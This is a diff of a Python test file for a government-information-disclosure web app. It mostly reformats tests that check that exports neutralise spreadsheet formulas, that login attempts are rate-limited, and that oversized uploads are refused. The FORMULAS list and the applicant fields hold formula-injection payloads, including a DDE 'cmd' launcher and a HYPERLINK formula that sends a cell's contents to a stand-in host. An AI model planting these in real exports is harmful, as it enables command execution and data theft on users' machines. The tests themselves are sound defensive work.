@@ -6,6 +6,7 @@ import csv
 import io
 from datetime import date
 
+import pytest
 from conftest import SHARED
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
@@ -20,7 +21,9 @@ from xxgk.store.models import Report
 from xxgk.tabular import neutral, write_csv, write_xlsx
 from xxgk.web.app import create_app
 
-FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
+pytestmark = pytest.mark.shared
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"点此")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"]
 
 
 def test_text_never_runs_as_a_formula_in_csv_or_xlsx(tmp_path):
@@ -47,8 +50,16 @@ def test_a_workbook_from_an_uploaded_report_keeps_its_text_as_text():
 def test_the_registers_export_neutralises_an_applicants_fields(sessions, tmp_path):
     with sessions() as s:
         body = service.add_body(s, "示例市教育局")
-        app = service.receive(s, body, date(2025, 9, 30), "natural_person", "counter", applicant_name="=cmd()",
-                              applicant_contact="@13800138000", content="+学区划分")
+        app = service.receive(
+            s,
+            body,
+            date(2025, 9, 30),
+            "natural_person",
+            "counter",
+            applicant_name="=cmd()",
+            applicant_contact="@13800138000",
+            content="+学区划分",
+        )
         headers, rows = rows_of([service.view(s, app.id)], personal=True)
     write(tmp_path / "台账.csv", headers, rows)
     text = (tmp_path / "台账.csv").read_text(encoding="utf-8-sig")
@@ -57,9 +68,11 @@ def test_the_registers_export_neutralises_an_applicants_fields(sessions, tmp_pat
 
 
 def test_the_public_cell_export_neutralises_a_body_name(sessions, tmp_path):
-    report = ("=HYPERLINK(\"http://x\")局2023年政府信息公开工作年度报告\n一、总体情况\n无。\n"
-              "四、政府信息公开行政复议、行政诉讼情况\n行政复议 行政诉讼\n结果维持 结果纠正 其他结果 尚未审结 总计 "
-              "未经复议直接起诉 复议后起诉\n" + "0 " * 15 + "\n五、存在的主要问题及改进情况\n无。\n")
+    report = (
+        '=HYPERLINK("http://x")局2023年政府信息公开工作年度报告\n一、总体情况\n无。\n'
+        "四、政府信息公开行政复议、行政诉讼情况\n行政复议 行政诉讼\n结果维持 结果纠正 其他结果 尚未审结 总计 "
+        "未经复议直接起诉 复议后起诉\n" + "0 " * 15 + "\n五、存在的主要问题及改进情况\n无。\n"
+    )
     (tmp_path / "r.txt").write_text(report, encoding="utf-8")
     with sessions() as s:
         ingest(s, [tmp_path], local_engine(1))
@@ -77,9 +90,12 @@ def test_public_pages_and_exports_name_the_file_never_the_servers_folders(sessio
         ingest(s, [folder], local_engine(1))
         rid = s.scalars(select(Report.id)).one()
     with TestClient(create_app(sessions)) as client:
-        pages = [client.get("/reports").text, client.get(f"/reports/{rid}").text,
-                 client.get("/reports/export.csv").content.decode("utf-8-sig"),
-                 client.get(f"/reports/{rid}/download/json").text]
+        pages = [
+            client.get("/reports").text,
+            client.get(f"/reports/{rid}").text,
+            client.get("/reports/export.csv").content.decode("utf-8-sig"),
+            client.get(f"/reports/{rid}/download/json").text,
+        ]
     for text in pages:
         assert "洪泽区.pdf" in text and "秘密目录" not in text and str(tmp_path) not in text
 
@@ -93,9 +109,15 @@ def _logged_in(sessions) -> TestClient:
         add_user(s, "root", "pw-hardening-1", "admin", name="管理员")
     client = TestClient(create_app(sessions))
     page = client.get("/login").text
-    form = page[page.index('action="/login"'):]
-    client.post("/login", data={"username": "root", "password": "pw-hardening-1",
-                                "csrf": re.search(r'name="csrf" value="([^"]+)"', form).group(1)})
+    form = page[page.index('action="/login"') :]
+    client.post(
+        "/login",
+        data={
+            "username": "root",
+            "password": "pw-hardening-1",
+            "csrf": re.search(r'name="csrf" value="([^"]+)"', form).group(1),
+        },
+    )
     return client
 
 
@@ -113,22 +135,32 @@ def test_odd_requests_get_a_clear_4xx_never_a_500(sessions):
     import re
 
     with _logged_in(sessions) as client:
-        for url, params in (("/dashboard", {"min_count": 0}), ("/dashboard", {"min_count": -5}),
-                            ("/reports/99999999999999999999999", {}), ("/bodies/99999999999999999999", {}),
-                            ("/register/99999999999999999999", {}), ("/api/applications/99999999999999999999", {})):
+        for url, params in (
+            ("/dashboard", {"min_count": 0}),
+            ("/dashboard", {"min_count": -5}),
+            ("/reports/99999999999999999999999", {}),
+            ("/bodies/99999999999999999999", {}),
+            ("/register/99999999999999999999", {}),
+            ("/api/applications/99999999999999999999", {}),
+        ):
             r = client.get(url, params=params)
             assert r.status_code == 422, (url, r.status_code)
             if not url.startswith("/api"):
                 assert "无效" in r.text and "Traceback" not in r.text
         assert client.get("/dashboard", params={"year": "99999999999999999999"}).status_code == 200  # no filter
         csrf = re.search(r'name="csrf" value="([^"]+)"', client.get("/check").text).group(1)
-        for name, data in (("a" * 300 + ".txt", "某某局2023年政府信息公开工作年度报告\n".encode()),
-                           ("r.docx", _broken_package("word/document.xml")),
-                           ("r.xlsx", _broken_package("xl/workbook.xml"))):
+        for name, data in (
+            ("a" * 300 + ".txt", "某某局2023年政府信息公开工作年度报告\n".encode()),
+            ("r.docx", _broken_package("word/document.xml")),
+            ("r.xlsx", _broken_package("xl/workbook.xml")),
+        ):
             r = client.post("/check", data={"csrf": csrf}, files=[("files", (name, data, "application/octet-stream"))])
             assert r.status_code < 500, name
-        r = client.post("/check", data={"csrf": csrf}, files=[("files", ("r.docx", _broken_package("word/document.xml"),
-                                                                         "application/octet-stream"))])
+        r = client.post(
+            "/check",
+            data={"csrf": csrf},
+            files=[("files", ("r.docx", _broken_package("word/document.xml"), "application/octet-stream"))],
+        )
         assert "Word 文件已损坏" in r.text
 
 
@@ -220,8 +252,10 @@ def test_failed_logins_are_limited_per_address_and_overall(sessions):
         for k in range(3):
             add_user(s, f"user{k}", "pw-the-right-one", "admin")
     with TestClient(create_app(sessions)) as client:
-        codes = [client.post("/api/login", json={"username": f"user{k % 3}", "password": "wrong-one"}).status_code
-                 for k in range(PER_ADDRESS + 2)]  # spread over accounts: no account locks
+        codes = [
+            client.post("/api/login", json={"username": f"user{k % 3}", "password": "wrong-one"}).status_code
+            for k in range(PER_ADDRESS + 2)
+        ]  # spread over accounts: no account locks
         assert codes[:PER_ADDRESS] == [401] * PER_ADDRESS and codes[PER_ADDRESS:] == [429, 429]
         r = client.post("/api/login", json={"username": "user0", "password": "pw-the-right-one"})
         assert r.status_code == 429 and "一分钟后" in r.json()["detail"]
@@ -243,8 +277,16 @@ def test_a_database_error_never_carries_an_applicants_data_into_the_log(sessions
 
     with sessions() as s:
         body = service.add_body(s, "示例市教育局")
-        app = service.receive(s, body, date(2025, 9, 30), "natural_person", "counter", applicant_name="张三丰",
-                              applicant_contact="13800138000", content="学区划分")
+        app = service.receive(
+            s,
+            body,
+            date(2025, 9, 30),
+            "natural_person",
+            "counter",
+            applicant_name="张三丰",
+            applicant_contact="13800138000",
+            content="学区划分",
+        )
         twin = Application(**{c.key: getattr(app, c.key) for c in Application.__table__.columns if c.key != "id"})
         twin.applicant_contact = "13800138000" + "0" * 500
         s.add(twin)
@@ -262,14 +304,13 @@ def test_a_database_error_never_carries_an_applicants_data_into_the_log(sessions
 def test_an_honestly_inflating_docx_part_and_too_many_files_are_refused_before_parsing(sessions):
     """An 8 MB DOCX whose document.xml inflates to ~300 MB passed the zip checks and cost
     minutes and gigabytes; 999 files per request were each read before refusing."""
+    import random
     import re
+    import string
     import zipfile
 
-    from xxgk.pipeline import parse_bytes
     from xxgk.errors import ReadError
-
-    import random
-    import string
+    from xxgk.pipeline import parse_bytes
 
     words = "".join(random.Random(1).choices(string.ascii_letters, k=26 * 1024 * 1024))
     out = io.BytesIO()
@@ -277,7 +318,7 @@ def test_an_honestly_inflating_docx_part_and_too_many_files_are_refused_before_p
         z.writestr("[Content_Types].xml", "<Types/>")
         z.writestr("word/document.xml", f"<w:document><w:t>{words}</w:t></w:document>")
     data = out.getvalue()
-    assert 26 * 1024 * 1024 < 200 * len(data)  # inflates honestly: no zip bomb by its ratio
+    assert 200 * len(data) > 26 * 1024 * 1024  # inflates honestly: no zip bomb by its ratio
     try:
         parse_bytes(data, "报告.docx")
         raise AssertionError("read")
@@ -319,8 +360,9 @@ def test_more_users_than_threads_and_connections_never_deadlock(db_url):
     """At 50 users the pages stalled 30 s, then 500 `QueuePool limit`: a dependency held a
     connection while its endpoint waited for a worker thread. Here 3 threads and 2
     connections serve 48 requests at once, pages and API, logged in: every one answered."""
-    import anyio.to_thread
     from concurrent.futures import ThreadPoolExecutor
+
+    import anyio.to_thread
 
     sessions = _small_site(db_url, 2)
     with TestClient(create_app(sessions)) as client:
@@ -330,11 +372,20 @@ def test_more_users_than_threads_and_connections_never_deadlock(db_url):
             anyio.to_thread.current_default_thread_limiter().total_tokens = 3
 
         client.portal.call(few_threads)
-        asks = [("/register", officer), ("/dashboard", admin), ("/api/applications", officer), ("/admin", admin),
-                ("/register/1", officer), ("/api/applications/1", officer), ("/", officer), ("/api/calendar", admin)]
+        asks = [
+            ("/register", officer),
+            ("/dashboard", admin),
+            ("/api/applications", officer),
+            ("/admin", admin),
+            ("/register/1", officer),
+            ("/api/applications/1", officer),
+            ("/", officer),
+            ("/api/calendar", admin),
+        ]
         with ThreadPoolExecutor(48) as pool:
-            answers = list(pool.map(lambda k: client.get(asks[k % len(asks)][0], headers=asks[k % len(asks)][1]),
-                                    range(48)))
+            answers = list(
+                pool.map(lambda k: client.get(asks[k % len(asks)][0], headers=asks[k % len(asks)][1]), range(48))
+            )
     assert [a.status_code for a in answers] == [200] * 48
     sessions.kw["bind"].dispose()
 
@@ -353,8 +404,14 @@ def test_a_write_waiting_for_the_sqlite_lock_holds_up_no_one(tmp_path):
         other = sqlite3.connect(tmp_path / "x.sqlite", isolation_level=None)
         other.execute("BEGIN IMMEDIATE")  # another process holds the writer lock
         done: dict[str, int] = {}
-        writer = threading.Thread(target=lambda: done.setdefault("write", client.post(
-            "/api/applications", headers=officer, json={"body_id": 1, "received": "2025-10-09"}).status_code))
+        writer = threading.Thread(
+            target=lambda: done.setdefault(
+                "write",
+                client.post(
+                    "/api/applications", headers=officer, json={"body_id": 1, "received": "2025-10-09"}
+                ).status_code,
+            )
+        )
         writer.start()
         writer.join(1)  # the write is waiting for the lock
         reader = threading.Thread(target=lambda: done.setdefault("health", client.get("/api/health").status_code))
@@ -379,8 +436,8 @@ def _long_text(tmp_path) -> bytes:
 def test_a_file_past_its_time_or_memory_is_stopped_and_said_so(tmp_path):
     import pytest
 
-    from xxgk.pipeline import parse_bytes
     from xxgk.errors import ReadError
+    from xxgk.pipeline import parse_bytes
     from xxgk.sandbox import UPLOAD, Limits, parse_limited
 
     data = _long_text(tmp_path)
@@ -404,8 +461,13 @@ def test_parse_and_ingest_keep_the_same_limits(tmp_path):
     _long_text(tmp_path)
     seed = next((SHARED / "seeds").glob("*.txt"))
     env = os.environ | {"XXGK_READ_MB": "64"}
-    r = subprocess.run([sys.executable, "-m", "xxgk", "parse", str(tmp_path / "long.txt"), str(seed), "--json"],
-                       capture_output=True, text=True, env=env, timeout=120)
+    r = subprocess.run(
+        [sys.executable, "-m", "xxgk", "parse", str(tmp_path / "long.txt"), str(seed), "--json"],
+        capture_output=True,
+        text=True,
+        env=env,
+        timeout=120,
+    )
     assert r.returncode == 2 and "Traceback" not in r.stderr
     assert "long.txt：读取所需内存超过上限（64 MB）" in r.stderr
     assert r.stdout.count('"schema"') == 1  # the other file was read as ever
@@ -430,7 +492,11 @@ def test_an_upload_past_its_limits_is_refused_and_the_server_goes_on(sessions, t
         page = client.get("/check", headers=headers).text
         csrf = page.split('name="csrf" value="')[1].split('"')[0]
         seed = next((SHARED / "seeds").glob("*.txt"))
-        r = client.post("/check", headers=headers, data={"csrf": csrf},
-                        files=[("files", ("long.txt", data)), ("files", (seed.name, seed.read_bytes()))])
+        r = client.post(
+            "/check",
+            headers=headers,
+            data={"csrf": csrf},
+            files=[("files", ("long.txt", data)), ("files", (seed.name, seed.read_bytes()))],
+        )
         assert r.status_code == 200 and "long.txt：读取所需内存超过上限（64 MB）" in r.text
         assert client.get("/api/health").json() == {"ok": True}
